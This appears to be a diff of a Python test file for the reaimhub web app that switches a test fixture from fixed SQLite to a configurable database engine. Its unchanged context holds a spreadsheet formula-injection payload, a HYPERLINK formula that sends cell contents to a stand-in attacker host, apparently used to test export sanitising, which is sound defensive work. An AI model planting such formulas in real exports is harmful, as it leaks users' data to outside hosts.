@@ -22,7 +22,7 @@ from reaimhub.web import create_app
 from reaimhub.web.column_labels import COLUMN_LABELS
 from reaimhub.web.exports import Table
 from tests.conftest import database_for, make_hub
-from tests.web.conftest import Client
+from tests.web.conftest import Client, web_engine
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -117,7 +117,7 @@ def quoted(text: str) -> str:
 
 @pytest.fixture
 def site(tmp_path: Path) -> Iterator[Client]:
-    with database_for("sqlite", tmp_path) as url:
+    with database_for(web_engine(), tmp_path) as url:  # PostgreSQL in ./dev test's second pass
         hub = make_hub(tmp_path, url)
         try:
             data = resources.files("reaimhub").joinpath("data", "reaim", "instruments.csv").read_bytes()
